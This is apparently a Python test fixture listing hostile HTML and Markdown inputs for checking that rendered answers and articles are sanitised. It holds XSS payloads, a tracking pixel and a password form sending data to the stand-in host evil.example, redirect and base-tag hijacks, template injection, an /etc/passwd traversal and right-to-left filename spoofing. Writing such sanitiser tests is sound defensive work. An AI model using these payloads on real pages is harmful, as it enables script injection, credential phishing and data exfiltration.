"""Answers and articles that try to leave the page: load something, run something, cover something, or lead
somewhere.
"""

from __future__ import annotations

OUT = "https://evil.example"
HOSTILE = {
    "a script": f'<script src="{OUT}/a.js"></script><script>alert(1)</script>',
    "an image": f'<img src="{OUT}/pixel.gif?secret=1">',
    "an image that fails": "<img src=x onerror=alert(1)>",
    "an svg that runs": '<svg onload=alert(1)><image href="https://evil.example/b.svg"/></svg>',
    "a Markdown image": f"![logo]({OUT}/c.png)",
    "a Markdown image by reference": f"![logo][there]\n\n[there]: {OUT}/d.png",
    "a Markdown link": f"[the source]({OUT}/e)",
    "a bare address": f"see {OUT}/f and www.evil.example/g or <{OUT}/h>",
    "a link that runs": '<a href="javascript:alert(1)">[1]</a> [go](javascript:alert(1))',
    "a frame": f'<iframe src="{OUT}/i"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">Your session has ended</div>',
    "a style sheet": (f'<style>@import "{OUT}/j.css"; body {{ display: none }}</style><link '
f'rel=stylesheet href="{OUT}/k.css">'),
    "a background": f'<div style="background:url({OUT}/l.png)">x</div>',
    "a form": f'<form action="{OUT}/m"><input name=password autofocus><button>Log in</button></form>',
    "a redirect": f'<meta http-equiv="refresh" content="0;url={OUT}/n">',
    "a base": f'<base href="{OUT}/">',
    "an object": f'<object data="{OUT}/o"></object><embed src="{OUT}/p">',
    "a film": f'<video src="{OUT}/q" poster="{OUT}/r" autoplay></video><audio src="{OUT}/s" autoplay></audio>',
    "data as a page": ('<a href="data:text/html,<script>alert(1)</script>">open</a><img src="data:image/svg+xml,<svg '
'onload=alert(1)>">'),
    "handlers": ('<b onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</b><details open '
'ontoggle=alert(1)>y</details>'),
    "a mark that breaks out": '[a" onclick="alert(1)] [../../etc/passwd] ["><img src=x onerror=alert(1)>]',
    "templates and turned letters": ("{{constructor.constructor('alert(1)')()}} ${alert(1)} `${alert(1)}` "
    "\u202egpj.exe\u202c \u2066x\u2069 "
"$$\\href{javascript:alert(1)}{x}$$"),
}  # fmt: skip
